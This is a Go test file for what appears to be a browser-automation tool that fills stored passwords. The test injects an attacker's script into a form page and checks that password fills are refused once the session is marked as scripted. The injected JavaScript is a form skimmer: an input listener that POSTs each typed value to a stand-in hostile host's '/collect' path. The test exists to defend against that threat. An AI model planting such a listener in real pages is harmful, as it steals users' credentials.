package tools

import (
	"context"
	"os"
	"strings"
	"testing"
	"time"

	"browser-mcp/cdp/browser"
	"browser-mcp/internal/tap"
	"browser-mcp/systemd/spawn"
	"browser-mcp/vault"
)

// tapped is a rig with a browser of its own, in which an attacker has a hand.
func tapped(t *testing.T) (*rig, *tap.Tap) {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	aside, h := tap.New(), spawn.Helper{Command: []string{self, helperWord}, Env: os.Environ()}
	b := browser.New(browser.Config{
		Start: func(ctx context.Context, request []byte) (browser.Process, error) {
			p, err := h.Start(ctx, request)
			if err != nil {
				return nil, err
			}
			return aside.Wrap(p), nil
		},
		Launch: browser.LaunchOptions{Headless: true},
	})
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		if err := b.Close(ctx); err != nil {
			t.Error(err)
		}
	})
	r := newRig(t).withSite()
	r.tools.config.Open = func(context.Context) (*Backend, error) {
		return &Backend{Browser: b, Store: r.store, Name: "memory"}, nil
	}
	return r, aside
}

// Code that ran once may have left a listener, in a world where no page sees it. Where any ran, and under hosts that
// share the registrable part, nothing is filled for the life of the session (threats.md, rule 1). No tool of this
// version runs code; the mark is what one has to set.
func TestThreatListenerReadsALaterFill(t *testing.T) {
	r, aside := tapped(t)
	r.site.Page("/form.html", `<title>Form</title><input type="password" aria-label="It">`)
	r.shelf.put("it", vault.Password, humanPassword, "sbm:origin", r.site.Pay)
	visit := func(origin string) *agent {
		a := r.connect()
		a.call("navigate", map[string]any{"url": origin + "/form.html"})
		page, err := aside.Page(t.Context(), origin+"/form.html")
		if err == nil {
			_, err = page.EvalAside(t.Context(), `addEventListener('input',
  event => fetch('`+r.site.Evil+`/collect', {method: 'POST', mode: 'no-cors', body: event.target.value}), true)`)
		}
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	unmarked := visit(r.site.Pay)
	unmarked.call("fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, unmarked.look(), `input password`)})
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	if _, err := r.site.AwaitPath(ctx, "POST", "/collect"); err != nil || !r.site.Received(r.site.Evil, humanPassword) {
		t.Fatalf("the listener sent nothing (%v): there is nothing to attack", err)
	}
	unmarked.hangUp()
	r.site.Forget()
	exports := len(r.store.Exports())

	a := visit(r.site.Pay)
	r.tools.session(a.caller(r)).redactor.Load().MarkScripted(r.site.Evil) // the same host, another port
	a.refused(DocumentScripted, "", "fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, a.look(), `input password`)})
	a.call("open_tab", map[string]any{"url": r.site.Pay + "/form.html"}) // where no code ran
	a.refused(DocumentScripted, "", "fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, a.look(), `input password`)})
	if len(r.store.Exports()) != exports || r.site.Received(r.site.Evil, humanPassword) {
		t.Errorf("%d exports more; the hostile origin has the value: %t", len(r.store.Exports())-exports, r.site.Received(r.site.Evil, humanPassword))
	}
	a.hangUp()
	other := r.connect() // the mark is of the session's browser context
	other.call("navigate", map[string]any{"url": r.site.Pay + "/form.html"})
	if text := other.call("fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, other.look(), `input password`)}).Text(); !strings.Contains(text, `"filled":true`) {
		t.Errorf("a fill of another session = %s, want it filled", text)
	}
}
